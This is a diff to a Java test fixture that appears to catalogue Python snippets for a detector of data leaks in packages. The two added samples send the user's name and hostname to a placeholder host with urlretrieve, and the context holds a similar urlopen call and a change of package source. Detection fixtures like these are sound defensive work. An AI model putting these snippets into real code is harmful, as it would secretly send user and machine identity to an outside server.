@@ -68,6 +68,20 @@ final class PythonLeavings {
                         urllib.request.urlopen('https://p.example/?' + socket.gethostname() + getpass.getuser())
                     """)),
         Sample.imported(
+            "what is fetched to a folder of the user is asked for by the user's name",
+            """
+            import getpass, socket, urllib.request
+            who = getpass.getuser() + socket.gethostname()
+            urllib.request.urlretrieve('https://p.example/?' + who, '/tmp/' + who)
+            """),
+        Sample.imported(
+            "the user's name is the body of a request whose answer is put into a file",
+            """
+            import getpass, socket, urllib.request
+            who = getpass.getuser() + socket.gethostname()
+            urllib.request.urlretrieve('https://p.example/', '/tmp/x', None, who.encode())
+            """),
+        Sample.imported(
             "packages come from a bare address from then on",
             """
             import configparser, pathlib
